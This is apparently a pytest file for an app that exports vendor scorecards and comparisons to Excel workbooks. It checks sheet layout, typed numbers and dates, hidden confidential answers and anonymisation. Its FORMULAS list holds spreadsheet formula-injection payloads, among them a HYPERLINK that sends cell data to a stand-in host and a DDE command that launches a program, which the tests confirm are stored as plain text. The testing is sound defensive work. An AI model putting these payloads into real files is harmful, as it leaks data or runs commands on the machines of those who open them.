"""Workbooks: a sheet for each view, numbers as numbers, days as days, nothing that a spreadsheet would calculate."""

from __future__ import annotations

import io
import re
import time
import zipfile
from dataclasses import replace
from datetime import datetime
from typing import Any

import openpyxl
import pytest
from openpyxl.workbook import Workbook

from app.core.scoring.compare import compare
from app.features.reports.comparing import Comparing
from app.features.reports.dossier import Dossier
from app.features.reports.spreadsheet import Book
from app.features.reports.xlsx_comparison import comparison_xlsx
from app.features.reports.xlsx_scorecard import scorecard_xlsx
from tests.features.report_story import NOW, ZONE, dossier

FORMULAS = [
    '=HYPERLINK("http://stranger.example/?"&A1,"Click")', "=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
    "=cmd|' /C calc'!A0", "＝1+1", " =1+1",
]  # fmt: skip


def opened(content: bytes) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(content))


def table(book: Workbook, sheet: str) -> list[dict[str, Any]]:
    head, *rows = book[sheet].iter_rows(values_only=True)
    return [dict(zip(map(str, head), row, strict=True)) for row in rows]


def as_pairs(book: Workbook, sheet: str) -> dict[str, Any]:
    return {row["What"]: row["Value"] for row in table(book, sheet)}


def comparing(*dossiers: Dossier, **changes: Any) -> Comparing:
    first = dossiers[0]
    made = Comparing(
        organisation=first.organisation, campaign=first.campaign, release=first.release, dossiers=dossiers,
        differences=compare([(d.vendor, d.card) for d in dossiers]).differences, waiting=1, made_by="Ines Aldemir",
        made_at=NOW, zone=ZONE,
    )  # fmt: skip
    return replace(made, **changes)


@pytest.fixture(scope="module")
def book() -> Workbook:
    return opened(scorecard_xlsx(dossier()))


def test_a_scorecards_workbook_has_a_sheet_for_each_view(book: Workbook) -> None:
    assert book.sheetnames == [
        "Overview", "Sections", "Clauses", "Questions", "Findings", "To decide", "Certificates", "Workings",
        "Judgements", "Provenance",
    ]  # fmt: skip
    for sheet in book:
        assert sheet.freeze_panes
        assert sheet.auto_filter.ref
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr is not None
        assert sheet.sheet_properties.pageSetUpPr.fitToPage


def test_numbers_are_numbers_and_those_of_the_scorecard(book: Workbook) -> None:
    card = dossier().card
    overall = as_pairs(book, "Overview")
    assert card.overall.claimed is not None
    assert card.overall.evidenced is not None
    assert overall["Claimed, of 100"] == pytest.approx(100 * card.overall.claimed)
    assert overall["Evidenced, of 100"] == pytest.approx(100 * card.overall.evidenced)
    for row in table(book, "Questions"):
        result = card.questions[row["Id"]]
        assert (row["Claim"], row["Credit"], row["Evidenced"]) == (result.claim, result.credit, result.evidenced)
    sections = {row["Section"]: row["Claimed"] for row in table(book, "Sections")}
    assert sections["Practice"] == pytest.approx(100 * (card.sections["practice"].claimed or 0))


def test_days_are_days_and_moments_are_those_of_the_organisation(book: Workbook) -> None:
    ends = {row["Certificate"]: row["Ends on"] for row in table(book, "Certificates")}
    assert ends["ISO/IEC 42001:2023, CERT-2"] == datetime(2029, 1, 11)  # noqa: DTZ001
    about = as_pairs(book, "Provenance")
    assert about["Judged on"] == datetime(2026, 11, 23)  # noqa: DTZ001
    assert about["Calculated"] == datetime(2026, 11, 25, 21, 15)  # noqa: DTZ001
    assert about["Time zone"] == "Europe/Amsterdam"


def test_the_workings_add_up_to_the_figures(book: Workbook) -> None:
    card = dossier().card
    lines = [row for row in table(book, "Workings") if row["Number of"] == "Overall"]
    *terms, total = lines
    for figure, product in (("Claim", "Weight × claim"), ("Evidenced", "Weight × evidenced")):
        added = sum(term[product] for term in terms)
        assert total[product] == pytest.approx(added)
        assert total[figure] == pytest.approx(added / total["Weight"])
    assert total["Claim"] == pytest.approx(card.overall.claimed)
    assert {row["Number of"] for row in table(book, "Workings")} >= {"Overall", "Practice", "ISO 42001 4.3"}


def test_both_sides_of_a_finding_are_quoted(book: Workbook) -> None:
    found = dossier().contradictions[0]
    (row,) = [r for r in table(book, "Findings") if r["Code"] == found.code and r["What"] == found.message]
    assert row["One side"] == found.sides[0].label
    assert (row["One side says"], row["Other side says"]) == (found.sides[0].words, found.sides[1].words)


def test_what_was_not_checked_and_the_sentence_on_readiness_go_with_it(book: Workbook) -> None:
    assert "It does not show legal compliance" in as_pairs(book, "Overview")["What these figures are"]
    said = [row["Value"] for row in table(book, "Provenance") if row["What"] == "Not checked"]
    assert said == list(dossier().card.not_checked)


def everything_in(content: bytes) -> list[tuple[str, str, Any]]:
    return [
        (sheet.title, cell.data_type, cell.value)
        for sheet in opened(content)
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.mark.parametrize("typed", FORMULAS)
def test_nothing_that_was_typed_becomes_a_formula(typed: str) -> None:
    hostile = dossier(
        typed, answers={"tests": {"value": typed}, "number": {"value": "yes", "note": typed}},
        explanations=[{"finding": f.key, "text": typed, "by": typed} for f in dossier().contradictions],
    )  # fmt: skip
    for content in (scorecard_xlsx(hostile), comparison_xlsx(comparing(hostile, dossier("Otterline HR")))):
        cells = everything_in(content)
        assert {kind for _, kind, _ in cells} <= {"s", "n", "d"}
        assert sum(1 for _, _, value in cells if str(value).strip() == typed.strip()) >= 2
        with zipfile.ZipFile(io.BytesIO(content)) as parts:
            for name in parts.namelist():
                assert b"<f>" not in parts.read(name)
                assert b"<hyperlink" not in parts.read(name)


def test_signs_that_a_workbook_cannot_hold_do_not_break_it() -> None:
    content = scorecard_xlsx(dossier("a\u0000b\u000bc\ufffed\ud83d", answers={"tests": {"value": "x" * 40_000}}))
    values = [str(value) for _, _, value in everything_in(content)]
    assert "abcd?" in values
    assert max(map(len, values)) == 32_767


def test_answers_that_may_not_be_read_are_not_in_the_file() -> None:
    found = dossier(withheld=frozenset({"other"}), answers={"other": {"value": "Our secret."}})
    assert "Our secret." not in str(everything_in(scorecard_xlsx(found)))
    assert "Our secret." not in str(everything_in(comparison_xlsx(comparing(found))))
    rows = {row["Id"]: row["Answer"] for row in table(opened(scorecard_xlsx(found)), "Questions")}
    assert rows["other"] == "Confidential"


def test_a_comparison_has_its_vendors_beside_one_another() -> None:
    better = dossier("Otterline HR", certificates=[])
    book = opened(comparison_xlsx(comparing(dossier(), better)))
    assert [(row["Place"], row["Vendor"]) for row in table(book, "Overview")] == [
        (1, "Quillfeather Talent"), (2, "Otterline HR"),
    ]  # fmt: skip
    (practice,) = [row for row in table(book, "Sections") if row["Section"] == "Practice"]
    for d in (dossier(), better):
        score = d.card.sections["practice"]
        assert practice[f"{d.vendor}: claimed"] == pytest.approx(100 * (score.claimed or 0))
        assert practice[f"{d.vendor}: evidenced"] == pytest.approx(100 * (score.evidenced or 0))
    assert {row["Vendor"] for row in table(book, "Findings")} == {"Quillfeather Talent", "Otterline HR"}
    (tests,) = [row for row in table(book, "Answers") if row["Id"] == "tests"]
    assert tests["Otterline HR"] == "Each release is tested on 4,000 cases."


def test_without_names_a_workbook_holds_nothing_that_names_a_vendor() -> None:
    hidden = comparing(dossier("Vendor A"), dossier("Vendor B"), anonymous=True)
    content = comparison_xlsx(hidden)
    assert "Findings" not in opened(content).sheetnames
    text = str(everything_in(content))
    for word in ("Quillfeather", "Otterline", "CERT-2", "Brightkeel", "4,000 cases"):
        assert word not in text
    assert "Vendor A" in text


def test_weights_that_are_tried_out_are_said_and_counted() -> None:
    found = dossier()
    book = opened(comparison_xlsx(comparing(found, weights={"certificate": 0.0, "practice": 3.0})))
    (row,) = table(book, "Overview")
    assert row["Claimed"] == pytest.approx(100 * (found.card.sections["practice"].claimed or 0))
    about = as_pairs(book, "Provenance")
    assert about["Weight tried out: Practice"] == 3
    assert "Under the policy" in about["Weights"]


def test_sheets_can_be_named_and_reached_by_other_programs() -> None:
    for name in opened(comparison_xlsx(comparing(dossier()))).sheetnames:
        assert re.fullmatch(r"[A-Za-z ]{1,31}", name)


def test_fifty_vendors_are_written_in_a_few_seconds() -> None:
    one = dossier()
    began = time.perf_counter()
    comparison_xlsx(comparing(*(replace(one, vendor=f"Vendor {n}") for n in range(50))))
    assert time.perf_counter() - began < 5


def test_a_book_takes_days_that_spreadsheets_do_not_know_as_text() -> None:
    from datetime import date

    book = Book()
    book.table("Days", (("Day", 12),), [[date(1612, 5, 1)], [date(2026, 5, 1)]])
    assert [row["Day"] for row in table(opened(book.finish()), "Days")] == [
        "1612-05-01", datetime(2026, 5, 1),  # noqa: DTZ001
    ]  # fmt: skip


def test_rows_are_high_enough_for_their_words_which_not_every_program_measures_itself() -> None:
    book = Book("Heights")
    said = [("short", "a"), ("long", "word " * 40), ("lines", "a\nb\nc")]
    book.table("Words", [("Name", 20), ("Reason", 40)], said)
    rows = opened(book.finish())["Words"].row_dimensions
    heights = [rows[row].height for row in (2, 3, 4)]
    assert heights[0] is None, "the height that every row has"
    assert heights[1] >= 15 * 200 / 40
    assert heights[2] == 45
